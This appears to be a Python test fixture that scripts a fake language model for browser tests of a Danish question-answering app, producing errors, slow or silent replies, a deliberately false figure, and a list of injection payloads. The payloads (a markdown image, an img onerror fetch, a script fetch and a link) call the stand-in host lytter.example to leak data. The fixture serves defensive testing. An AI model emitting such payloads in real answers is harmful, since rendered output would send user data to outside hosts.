"""What the scripted language model of the browser tests says, by what it is asked."""

import json
from collections.abc import Sequence
from typing import Any

from honest_model import echo
from model_actions import Action, Says, Silent, Status, answer_json, sentence
from model_asked import sent
from model_server import said

WORDED = "Er målet for udredning af børn og unge nået?"
FAILING = "Hvad er målet for antallet af bæltefikseringer?"
SLOW = "Hvor mange kommuner har indført KIT?"
FALSE = "99 millioner"
PAUSE = 0.2  # seconds between two pieces of a slow answer
LEAK = "https://lytter.example/?q="
HOSTILE = (
    f"![billede]({LEAK}1)",
    f'Målet er <img src="{LEAK}2" onerror="fetch(\'{LEAK}3\')"> nået.',
    f"<script>fetch('{LEAK}4')</script>",
    f"[Læs mere]({LEAK}5)",
)


def by_question(request: dict[str, Any], nth: int) -> Action:
    """Fail, write slowly or answer at once, as the question wishes."""
    if FAILING in said(request):
        return Status(500)
    return slowly(request, nth) if SLOW in said(request) else echo(request, nth)


def slowly(request: dict[str, Any], _: int) -> Action:
    """Repeat the answer's own sentences with a pause between them, among them one that is not true, and stand by it."""
    untrue = sentence(f"Målet er {FALSE} kroner.", [1])
    if FALSE in said(request):  # it is asked for that sentence once more
        return Says(answer_json([untrue]))
    own = [sentence(piece["tekst"], [piece["nr"]]) for piece in sent(request)["kilder"] if piece["slags"] == "svar"]
    return paused([own[0], untrue, *own[1:]])


def begins(request: dict[str, Any], nth: int) -> Action:
    """Fail as the question wishes, or say a first sentence and then nothing for a minute."""
    if FAILING in said(request):
        return by_question(request, nth)
    first = sent(request)["kilder"][0]
    return Silent(text=answer_json([sentence(first["tekst"], [first["nr"]])]).removesuffix('], "answered": true}'))


def nothing(request: dict[str, Any], _: int) -> Action:
    """Say nothing for a minute."""
    return Silent()


def hostile(request: dict[str, Any], _: int) -> Action:
    """Say what would load or run something, were it drawn as it is, after the first true sentence."""
    first = sent(request)["kilder"][0]
    bait = [sentence(f"{first['tekst']} {text}", [first["nr"]]) for text in HOSTILE]
    return Says(answer_json([*bait, sentence(first["tekst"], [first["nr"]])]))


def paused(sentences: Sequence[dict[str, Any]]) -> Says:
    """Return a reply that pauses after each sentence, and in the middle of it."""
    whole, cuts = answer_json(sentences), []
    for written in (json.dumps(one, ensure_ascii=False) for one in sentences):
        end = whole.index(written, cuts[-1] if cuts else 0) + len(written)
        cuts += [end - len(written) // 2, end]
    starts = [0, *cuts]
    pieces = tuple(whole[start:end] for start, end in zip(starts, [*cuts, len(whole)], strict=True))
    return Says(whole, pieces=pieces, every=PAUSE)
